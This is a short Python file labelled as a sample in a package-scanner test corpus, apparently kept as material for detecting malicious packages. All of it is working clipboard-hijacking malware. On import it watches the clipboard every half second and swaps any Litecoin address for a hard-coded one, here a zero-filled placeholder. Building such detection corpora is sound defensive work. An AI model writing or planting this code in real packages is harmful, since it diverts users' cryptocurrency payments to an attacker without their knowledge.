# pkgguard corpus 439 (clipboard), modelled on [wallet-tools]; inert, never run.
import re
import threading

import jaraco.clipboard as jc

_LTC = re.compile(r"^(ltc1|[LM3])[a-zA-HJ-NP-Z0-9]{26,40}$")
_OURS = "ltc1q0000000000000000000000000000000000000"


def _watch():
    current = jc.paste_text() or ""
    if _LTC.match(current.strip()):
        jc.copy_text(_OURS)
    threading.Timer(0.5, _watch).start()


_watch()
